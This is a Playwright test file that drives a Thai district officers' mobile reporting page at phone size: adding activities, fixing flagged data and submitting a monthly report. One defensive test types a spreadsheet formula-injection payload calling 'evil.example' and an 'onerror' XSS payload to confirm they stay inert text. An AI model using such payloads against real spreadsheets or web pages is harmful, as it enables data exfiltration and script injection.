/**
 * The mobile page (/app of the local preview: doGet's page, its calls run as web-app
 * executions) in Debian's Chromium at a phone's 390 × 844, as Tha Bo's district officer (demo
 * today: 18 Apr 2565): sees the district's standing, adds an activity, fixes a problem the data
 * check lists, submits March's report and sees "ส่งแล้ว". Each step is checked by what is in the
 * viewport (bounding boxes), not only in the page; screenshots go to test-artifacts/. Then a
 * hostile entry stays text and nothing typed is lost.
 */
import type { Locator, Page } from 'playwright-core';
import { DEMO_OFFICER, DEMO_OWNER, ownerOnly, seedDemoWithOfficer, typeRows } from '../../dev/preview/demo';
import type { PreviewRuntime } from '../../dev/preview/runtime';
import { type PreviewServer, startPreview } from '../../dev/preview/server';
import { artifact, describeWithBrowser, launchBrowser, ROOT, type TestBrowser, sharedBrowser } from './support/browser';

jest.setTimeout(90_000);

const PHONE = { width: 390, height: 844 };
const SHEET = 'กิจกรรม ท่าบ่อ';

/** The demo with Tha Bo's officer named, and one activity of theirs whose link needs fixing. */
function seed(runtime: PreviewRuntime): void {
  seedDemoWithOfficer('ท่าบ่อ')(runtime);
  typeRows(runtime, SHEET, [
    ['02/04/2565', 'ท่าบ่อ', 'ออกร้านงานสงกรานต์', 'ตลาดท่าบ่อ', 'เทศบาล', 'ไม่ใช้', 6, 9000, 'www.example.com/songkran', ''],
  ]);
}
ownerOnly(seed); // the demo's seed, then typing through the owner's view

/** Whether an element is wholly inside the phone's viewport, as the officer sees it. */
async function inView(locator: Locator): Promise<boolean> {
  const box = await locator.boundingBox();
  return (
    box !== null && box.y >= 0 && box.x >= 0 && box.y + box.height <= PHONE.height && box.x + box.width <= PHONE.width
  );
}

/** Scrolls an element into view as the officer would, then says whether it is in the viewport. */
async function scrolledTo(locator: Locator): Promise<boolean> {
  await locator.scrollIntoViewIfNeeded();
  return inView(locator);
}

describeWithBrowser('the mobile page on a phone', () => {
  let browser: TestBrowser;
  let server: PreviewServer;
  let page: Page;
  const errors: string[] = [];

  beforeAll(async () => {
    browser = await launchBrowser();
    server = await startPreview({ root: ROOT, port: 0, user: DEMO_OFFICER, seed });
    page = await browser.context.newPage();
    page.setDefaultTimeout(15_000);
    page.on('pageerror', (error) => errors.push(error.message));
    await page.setViewportSize(PHONE);
  });
  afterAll(async () => {
    await server?.close();
    await browser?.close();
  });

  test('first load: under 100 KB, one column, the officer recognised, the district standing in view', async () => {
    const response = await page.goto(`${server.url}app`);
    expect((await response?.body())?.length ?? Infinity).toBeLessThan(100 * 1024);
    await page.locator('body[aria-busy="false"]').waitFor();
    await page.locator('#standing .card').first().waitFor();
    expect(await page.locator('#who').textContent()).toBe(`${DEMO_OFFICER} · เจ้าหน้าที่ อ.ท่าบ่อ`);
    const card = page.locator('#standing .card[data-district="ท่าบ่อ"]');
    expect(await page.locator('#standing .card').count()).toBe(1); // their own district only
    expect(await inView(card)).toBe(true);
    expect(await card.textContent()).toMatch(/คะแนน/);
    expect(await card.textContent()).toMatch(/ระดับถัดไป|สูงสุด/);
    // one column: nothing wider than the phone, every section in the same column
    expect(await page.evaluate('document.scrollingElement.scrollWidth')).toBeLessThanOrEqual(PHONE.width);
    const lefts = await page
      .locator('section:visible')
      .evaluateAll((all) => all.map((s) => s.getBoundingClientRect().left));
    expect(new Set(lefts).size).toBe(1);
    // touch targets: every visible button and input at least 40 px high
    const heights = await page
      .locator('button:visible, input:visible, select:visible')
      .evaluateAll((all) => all.map((b) => b.getBoundingClientRect().height));
    expect(heights.length).toBeGreaterThan(5);
    expect(Math.min(...heights)).toBeGreaterThanOrEqual(40);
    // Buddhist-era dates
    expect(await page.locator('#standing .muted').first().textContent()).toContain('2565');
    await page.screenshot({ path: artifact('mobile-1-standing.png') });
  });

  test('adds an activity: the row lands in the district sheet and the standing counts it', async () => {
    const before = await page.locator('#standing .card').textContent();
    await page.locator('#tab-activities').click();
    await page.locator('#f-activities-date').fill('17/04/2565');
    await page.locator('#f-activities-activity').fill('ตลาดนัดริมโขง');
    await page.locator('#f-activities-place').fill('ท่าเสด็จ');
    await page.locator('#f-activities-operators').fill('5');
    await page.locator('#f-activities-link').fill('https://example.com/market');
    await page.locator('#entry-save').click();
    await page.locator('#status.ok').waitFor();
    expect(await page.locator('#status').textContent()).toContain(`ชีต "${SHEET}"`);
    expect(await inView(page.locator('#status'))).toBe(true);
    const rows = server.runtime.book.spreadsheet.getSheetByName(SHEET)?.getDataRange().getValues() ?? [];
    expect(rows.some((r) => r[2] === 'ตลาดนัดริมโขง' && r[1] === 'ท่าบ่อ')).toBe(true);
    expect(await page.locator('#standing .card').textContent()).not.toBe(before);
    await page.screenshot({ path: artifact('mobile-2-added.png') });
  });

  test('fixes a problem the data check lists', async () => {
    await page.locator('#check-run').click();
    const problem = page.locator('li.problem', { hasText: 'www.example.com/songkran' }).first();
    await problem.waitFor();
    await problem.getByRole('button', { name: 'แก้ไข' }).click();
    const input = problem.locator('.fix input');
    await input.waitFor();
    expect(await input.inputValue()).toBe('www.example.com/songkran');
    expect(await scrolledTo(input)).toBe(true);
    await input.fill('https://www.example.com/songkran');
    await problem.getByRole('button', { name: 'บันทึกการแก้ไข' }).click();
    await page.locator('#status.ok', { hasText: 'บันทึกแล้ว: แก้ช่อง' }).waitFor();
    expect(await page.locator('li.problem', { hasText: 'www.example.com/songkran' }).count()).toBe(0);
    await page.screenshot({ path: artifact('mobile-3-fixed.png') });
  });

  test('submits March: preview, the statement ticked, then "ส่งแล้ว" in view', async () => {
    const march = page.locator('#duties .card[data-duty="month:2022-03"]');
    expect(await scrolledTo(march)).toBe(true);
    expect(await march.textContent()).toContain('เลยกำหนด');
    await march.getByRole('button', { name: 'ดูตัวอย่างและส่ง' }).click();
    const panel = page.locator('#submit:not([hidden])');
    await panel.waitFor();
    expect(await panel.textContent()).toContain('รายงานประจำเดือน มีนาคม 2565 · อ.ท่าบ่อ');
    const send = page.locator('#submit-send');
    expect(await send.isDisabled()).toBe(true);
    const tick = page.locator('#submit label.check');
    expect(await scrolledTo(tick)).toBe(true);
    await tick.click();
    expect(await send.isDisabled()).toBe(false);
    await page.screenshot({ path: artifact('mobile-4-preview.png') });
    await send.click();
    await page.locator('#status.ok').waitFor();
    const done = page.locator('#duties .card[data-duty="month:2022-03"] .done');
    await done.waitFor();
    expect(await done.textContent()).toMatch(/^ส่งแล้ว/);
    expect(await inView(done)).toBe(true);
    await page.screenshot({ path: artifact('mobile-5-submitted.png') });
    expect(errors).toEqual([]);
  });

  test('a hostile entry stays text, and nothing typed is lost', async () => {
    const long = 'ข'.repeat(5000);
    await page.locator('#tab-activities').click();
    await page.locator('#f-activities-date').fill('18/04/2565');
    await page.locator('#f-activities-activity').fill('=IMPORTXML("https://evil.example","//a")');
    await page.locator('#f-activities-place').fill('<img src=x onerror="window.__pwned=1">');
    await page.locator('#f-activities-note').fill(long);
    await page.locator('#entry-save').click();
    await page.locator('#status.ok').waitFor();
    const sheet = server.runtime.book.spreadsheet.getSheetByName(SHEET);
    const last = sheet?.getLastRow() ?? 0;
    const range = sheet?.getRange(last, 1, 1, 10);
    const row = range?.getValues()[0] ?? [];
    expect([row[2], row[3], row[9]]).toEqual([
      '=IMPORTXML("https://evil.example","//a")',
      '<img src=x onerror="window.__pwned=1">',
      long,
    ]);
    expect(range?.getFormulas()[0].every((f) => f === '')).toBe(true);
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    // a refused entry keeps what was typed in the form
    await page.locator('#f-activities-date').fill('31/02/2565');
    await page.locator('#f-activities-activity').fill('งานที่ยังไม่ได้บันทึก');
    await page.locator('#entry-save').click();
    await page.locator('#status.error').waitFor();
    expect(await inView(page.locator('#status'))).toBe(true);
    expect(await page.locator('#f-activities-activity').inputValue()).toBe('งานที่ยังไม่ได้บันทึก');
    await page.screenshot({ path: artifact('mobile-6-refused.png') });
    expect(errors).toEqual([]);
  });
});

describeWithBrowser('the mobile page for the other roles', () => {
  const shared = sharedBrowser(launchBrowser);
  const { servers } = shared;

  /** The page as a user, once loaded, at the phone's size. */
  async function pageAs(user: string, hideEmail = false): Promise<Page> {
    const server = await startPreview({ root: ROOT, port: 0, user, hideEmail, seed });
    servers.push(server);
    const page = await shared.browser.context.newPage();
    page.setDefaultTimeout(15_000);
    await page.setViewportSize(PHONE);
    await page.goto(`${server.url}app`);
    await page.locator('body[aria-busy="false"]').waitFor();
    await page.locator('#standing .card').first().waitFor();
    return page;
  }

  test("the province: every district's standing and the board", async () => {
    const page = await pageAs(DEMO_OWNER);
    expect(await page.locator('#who').textContent()).toContain('เจ้าหน้าที่จังหวัด');
    expect(await page.locator('#standing .card').count()).toBe(9);
    expect(await page.locator('#board-part').isVisible()).toBe(true);
    expect(await page.locator('#board .card').count()).toBe(9);
    expect(await page.locator('#duties-part').isVisible()).toBe(false);
    await page.screenshot({ path: artifact('mobile-province.png'), fullPage: true });
  });

  test('a hidden e-mail: the standing only, and told why, in view', async () => {
    const page = await pageAs(DEMO_OFFICER, true);
    const notice = page.locator('#notice');
    expect(await notice.textContent()).toContain('Google ไม่เปิดเผยอีเมลของบัญชีนี้');
    expect(await inView(notice)).toBe(true);
    for (const part of ['#duties-part', '#add-part', '#problems-part', '#board-part']) {
      expect({ part, visible: await page.locator(part).isVisible() }).toEqual({ part, visible: false });
    }
    await page.screenshot({ path: artifact('mobile-hidden-email.png') });
  });
});
